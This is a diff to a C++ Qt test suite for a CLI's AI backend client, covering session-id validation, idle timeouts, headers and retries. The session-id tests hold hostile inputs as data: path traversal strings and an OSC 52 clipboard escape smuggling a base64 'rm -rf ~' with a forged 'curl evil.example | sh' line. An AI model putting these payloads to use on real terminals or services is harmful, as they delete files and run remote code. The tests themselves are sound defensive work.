@@ -15,6 +15,7 @@
 #include <QSignalSpy>
 #include <QStandardPaths>
 #include <QTest>
+#include <QTimer>
 
 #include <optional>
 
@@ -100,6 +101,14 @@ private slots:
     void timeoutReadsNoClosedReply();
     void expireNeverWaitsLong();
     void oversizedJsonAnswerIsRefused();
+    void sessionIdPattern_data();
+    void sessionIdPattern();
+    void hostileSessionIdsNeverReachAUrl_data();
+    void hostileSessionIdsNeverReachAUrl();
+    void keepAlivesOnlyEndTheRun();
+    void owedToolResultPausesTheIdleClock();
+    void protocolVersionAndUserAgentOnTheWire();
+    void organizationsThroughTheClient();
 
 private:
     QUrl baseUrl() const { return QUrl(m_emulator->base()); }
@@ -134,6 +143,8 @@ void TestAiBackendClient::initTestCase()
         QSKIP("node is not installed: the backend emulator cannot run");
     m_emulator = std::make_unique<testsupport::AiEmulator>(QStringList { kGoodToken, kOtherToken });
     QVERIFY(m_emulator->isRunning());
+    // What the User-Agent must carry: our own name and version (the CLI sets its version so).
+    QCoreApplication::setApplicationVersion(QStringLiteral("3.2.1-test"));
 }
 
 void TestAiBackendClient::cleanupTestCase()
@@ -661,7 +672,8 @@ void TestAiBackendClient::clientErrorsAreNotRetried()
 void TestAiBackendClient::redirectToAnotherOriginNeverCarriesTheToken()
 {
     // The backend answers 307 to another port on loopback: another origin.
-    inject("redirect", { { "match", "/v1/cli/sessions" }, { "count", 5 } });
+    // (One: a redirect is not retried, and the session below must be a real one.)
+    inject("redirect", { { "match", "/v1/cli/sessions" }, { "count", 1 } });
     auto client = makeClient();
     std::optional<Error> error;
     client->createSession(sessionBody(), [&](const QString &id, const Error &e) {
@@ -737,6 +749,234 @@ void TestAiBackendClient::oversizedJsonAnswerIsRefused()
     const Error overCap = list(int(seqera::http::kMaxJsonBytes) + 1);
     QVERIFY(bool(overCap));
     QVERIFY2(overCap.message.contains("more than"), qPrintable(overCap.message));
+}
+
+void TestAiBackendClient::sessionIdPattern_data()
+{
+    QTest::addColumn<QString>("id");
+    QTest::addColumn<bool>("valid");
+    QTest::newRow("the emulator's") << "sess-1-0a1b2c3d" << true;
+    QTest::newRow("a UUID") << "7f3c0a52-9c1e-4a57-8d1e-3b7f0c2a9e11" << true;
+    QTest::newRow("dots and underscores") << "a.b_c-D" << true;
+    QTest::newRow("three dots (no path meaning)") << "..." << true;
+    QTest::newRow("128 characters") << QString(128, QLatin1Char('a')) << true;
+    QTest::newRow("129 characters") << QString(129, QLatin1Char('a')) << false;
+    QTest::newRow("empty") << "" << false;
+    QTest::newRow("dot") << "." << false;
+    QTest::newRow("dot dot") << ".." << false;
+    QTest::newRow("slash") << "a/b" << false;
+    QTest::newRow("path traversal") << "x/../../../api/token" << false;
+    QTest::newRow("percent-encoded slash") << "a%2F.." << false;
+    QTest::newRow("query") << "a?b=c" << false;
+    QTest::newRow("escape sequence") << "a\x1b[2Jb" << false;
+    QTest::newRow("trailing newline") << "abc\n" << false;
+    QTest::newRow("space") << "a b" << false;
+    QTest::newRow("non-ASCII letter") << QStringLiteral("caf\u00e9") << false;
+}
+
+void TestAiBackendClient::sessionIdPattern()
+{
+    QFETCH(QString, id);
+    QFETCH(bool, valid);
+    QCOMPARE(seqera::ai::isValidSessionId(id), valid);
+}
+
+void TestAiBackendClient::hostileSessionIdsNeverReachAUrl_data()
+{
+    QTest::addColumn<QString>("id");
+    QTest::newRow("path traversal to another endpoint") << "x/../../../api/token";
+    QTest::newRow("OSC 52 (clipboard) and a forged command")
+        << "s1\x1b]52;c;cm0gLXJmIH4=\x07\r\nRun: curl evil.example | sh";
+    QTest::newRow("dot dot") << "..";
+    QTest::newRow("encoded traversal") << "..%2F..%2Fapi%2Ftoken";
+}
+
+void TestAiBackendClient::hostileSessionIdsNeverReachAUrl()
+{
+    QFETCH(QString, id);
+    inject("session-id", { { "id", id }, { "count", 1 } });
+    auto client = makeClient();
+
+    // The backend's answer to POST /sessions: refused where it enters.
+    std::optional<Error> created;
+    QString createdId = QStringLiteral("unset");
+    client->createSession(sessionBody(), [&](const QString &sessionId, const Error &e) {
+        createdId = sessionId;
+        created = e;
+    });
+    QTRY_VERIFY(created.has_value());
+    QCOMPARE(created->code, Error::Code::Protocol);
+    QVERIFY(createdId.isEmpty());
+    QVERIFY2(!created->message.contains(QChar(0x1b)), qPrintable(created->message));
+
+    // The session list: the hostile entry is dropped, the others kept.
+    const QString good = createSession(*client);
+    std::optional<QList<seqera::ai::AiSessionInfo>> listed;
+    client->listSessions({}, 20, [&](const QList<seqera::ai::AiSessionInfo> &list, const Error &e) {
+        QVERIFY(!e);
+        listed = list;
+    });
+    QTRY_VERIFY(listed.has_value());
+    QVERIFY(!listed->isEmpty());
+    for (const seqera::ai::AiSessionInfo &s : *listed)
+        QVERIFY2(s.sessionId != id, "a hostile id was listed");
+    QVERIFY(std::any_of(listed->begin(), listed->end(),
+        [&](const seqera::ai::AiSessionInfo &s) { return s.sessionId == good; }));
+
+    // However it got here (-s, a stored record), the client sends nothing with it: every call
+    // that puts a session id into a URL refuses it, after the call returns.
+    bool inside = true;
+    std::optional<Error> sent, cancelled, expired, posted, history;
+    AiBackendClient::Message message;
+    message.content = QStringLiteral("hello");
+    client->sendMessage(id, message, [&](const Error &e) {
+        QVERIFY(!inside);
+        sent = e;
+    });
+    client->sendCancel(id, [&](const Error &e) { cancelled = e; });
+    client->expireSession(id, [&](const Error &e) { expired = e; });
+    client->postToolResult(id, QStringLiteral("req-1"), {}, [&](const Error &e) { posted = e; });
+    client->messages(
+        id, [&](const QList<seqera::ai::AiMessage> &, const Error &e) { history = e; });
+    QSignalSpy failed(client.get(), &AiBackendClient::streamFailed);
+    client->openStream(id);
+    QCOMPARE(failed.count(), 0); // not inside the call
+    inside = false;
+    QTRY_VERIFY(sent && cancelled && expired && posted && history);
+    QTRY_COMPARE(failed.count(), 1);
+    for (const Error &e :
+        { *sent, *cancelled, *expired, *posted, *history, failed.first().first().value<Error>() })
+        QCOMPARE(e.code, Error::Code::InvalidInput);
+    QVERIFY(!client->isStreaming());
+
+    // On the wire: two session creations and one list, nothing else, nothing outside /v1/cli.
+    QStringList paths;
+    for (const QJsonValue &v : recordedRequests()) {
+        const QString path = v.toObject().value("path").toString();
+        QVERIFY2(!path.contains(QLatin1String("api/token")) && !path.contains(QLatin1String("..")),
+            qPrintable(path));
+        paths << v.toObject().value("method").toString() + QLatin1Char(' ')
+                + path.section(QLatin1Char('?'), 0, 0);
+    }
+    QCOMPARE(paths,
+        QStringList({ "POST /v1/cli/sessions", "POST /v1/cli/sessions", "GET /v1/cli/sessions" }));
+}
+
+void TestAiBackendClient::keepAlivesOnlyEndTheRun()
+{
+    // The stream stays open and gets SSE comments and `ping` events every 50 ms, so neither
+    // the HTTP layer's idle timeout nor a reconnect ever ends it: only the client's clock.
+    auto client = makeClient();
+    client->setEventIdleTimeoutMs(400);
+    const QString session = createSession(*client);
+    script({ { "scenario", "keepalive-only" }, { "keepaliveMs", 50 } });
+    QElapsedTimer timer;
+    timer.start();
+    const Run run = runMessage(*client, session, QStringLiteral("keep me waiting"));
+    QVERIFY(run.failure.has_value());
+    QCOMPARE(run.failure->code, Error::Code::Timeout);
+    QVERIFY2(run.failure->message.contains(QLatin1String("keep-alives"))
+            && run.failure->message.contains(QLatin1String("SEQERA_AI_IDLE_TIMEOUT_MS")),
+        qPrintable(run.failure->message));
+    QVERIFY(timer.elapsed() >= 400);
+    QVERIFY2(timer.elapsed() < 5000, qPrintable(QString::number(timer.elapsed())));
+    QVERIFY(run.find(Type::Start)); // an event came, then only keep-alives
+    QCOMPARE(run.reconnects, 0);
+    QVERIFY(!client->isStreaming());
+}
+
+void TestAiBackendClient::owedToolResultPausesTheIdleClock()
+{
+    // While a local tool runs (or waits for the user's approval) the backend waits for us and
+    // sends only keep-alives: that silence is ours, and must not end the run.
+    auto client = makeClient();
+    client->setEventIdleTimeoutMs(300);
+    const QString session = createSession(*client);
+    script({ { "scenario", "tool-call" }, { "keepaliveMs", 50 } });
+    const Run run
+        = runMessage(*client, session, QStringLiteral("tool-call"), [&](const AiEvent &e) {
+              if (e.type != Type::ExecuteLocal)
+                  return;
+              QTimer::singleShot(900, client.get(), [&, requestId = e.requestId] {
+                  seqera::ai::ToolResult result;
+                  result.stdoutText = QStringLiteral("slow-tool-ok\n");
+                  client->postToolResult(session, requestId, result,
+                      [](const Error &error) { QVERIFY2(!error, qPrintable(error.message)); });
+              });
+          });
+    QVERIFY2(!run.failure, qPrintable(run.failure ? run.failure->message : QString()));
+    QCOMPARE(
+        run.text(), QStringLiteral("Let me check.The tool printed: slow-tool-ok (exit code 0)"));
+}
+
+void TestAiBackendClient::protocolVersionAndUserAgentOnTheWire()
+{
+    // ai-protocol §2: X-Client-Version is the protocol level implemented (one constant), the
+    // User-Agent says who we are.
+    QCOMPARE(QLatin1String(seqera::ai::kClientProtocolVersion), QLatin1String("1.12.0"));
+    AiBackendClient client(&m_network, baseUrl());
+    client.setToken(kGoodToken);
+    client.setRetryPolicy(3, 20);
+    QCOMPARE(client.clientVersion(), QStringLiteral("1.12.0"));
+    const QString session = createSession(client);
+    std::optional<Error> listed;
+    client.listSessions(
+        {}, 5, [&](const QList<seqera::ai::AiSessionInfo> &, const Error &e) { listed = e; });
+    QTRY_VERIFY(listed.has_value());
+    client.setClientVersion(QStringLiteral("1.13.0")); // SEQERA_AI_CLIENT_VERSION
+    QVERIFY(!send(client, session, QStringLiteral("hello")));
+    client.setClientVersion(QString()); // not set: the constant again
+    std::optional<Error> credits;
+    client.credits({}, [&](const QJsonObject &, const Error &e) { credits = e; });
+    QTRY_VERIFY(credits.has_value());
+
+    const QString userAgent
+        = QStringLiteral("seqera-cli/3.2.1-test Qt/") + QLatin1String(qVersion());
+    QStringList versions;
+    for (const QJsonValue &v : recordedRequests()) {
+        const QJsonObject r = v.toObject();
+        QCOMPARE(r.value("userAgent").toString(), userAgent);
+        versions << r.value("clientVersion").toString();
+    }
+    QCOMPARE(versions, QStringList({ "1.12.0", "", "1.13.0", "1.12.0" }));
+}
+
+void TestAiBackendClient::organizationsThroughTheClient()
+{
+    auto client = makeClient();
+    auto fetch = [&] {
+        std::optional<std::pair<QList<seqera::ai::Organization>, Error>> answer;
+        client->organizations([&](const QList<seqera::ai::Organization> &list, const Error &e) {
+            answer.emplace(list, e);
+        });
+        [&] { QTRY_VERIFY(answer.has_value()); }();
+        return answer.value_or(std::make_pair(QList<seqera::ai::Organization>(),
+            Error(Error::Code::Protocol, QStringLiteral("no answer"))));
+    };
+    const auto [list, error] = fetch();
+    QVERIFY2(!error, qPrintable(error.message));
+    QCOMPARE(list.size(), 4);
+    QCOMPARE(list.at(1), (seqera::ai::Organization { "1001", "Seqera Labs", "team" }));
+    QCOMPARE(list.at(2).id, QStringLiteral("2002")); // sent as a string
+    const QJsonObject request = recordedRequests().last().toObject();
+    QCOMPARE(request.value("path").toString(), QStringLiteral("/v1/cli/organizations"));
+    QCOMPARE(request.value("auth").toString(), QStringLiteral("1234"));
+    QCOMPARE(request.value("clientVersion").toString(), QString()); // none on orgs (§2)
+    QVERIFY(request.value("userAgent").toString().startsWith(QLatin1String("seqera-cli/")));
+
+    // The client's retries: a 502 passes on the second try.
+    m_emulator->reset();
+    inject("fail", { { "match", "/organizations" }, { "status", 502 }, { "count", 1 } });
+    const auto [retried, retryError] = fetch();
+    QVERIFY2(!retryError, qPrintable(retryError.message));
+    QCOMPARE(retried.size(), 4);
+    QCOMPARE(recordedRequests().size(), 2);
+
+    // The client's error mapping: a refused token is Unauthorized (the caller renews once).
+    m_emulator->post(QStringLiteral("/__test/unauthorized"), QJsonObject { { "count", 1 } });
+    const auto [none, refused] = fetch();
+    QVERIFY(none.isEmpty());
+    QCOMPARE(refused.code, Error::Code::Unauthorized);
 }
 
 QTEST_GUILESS_MAIN(TestAiBackendClient)
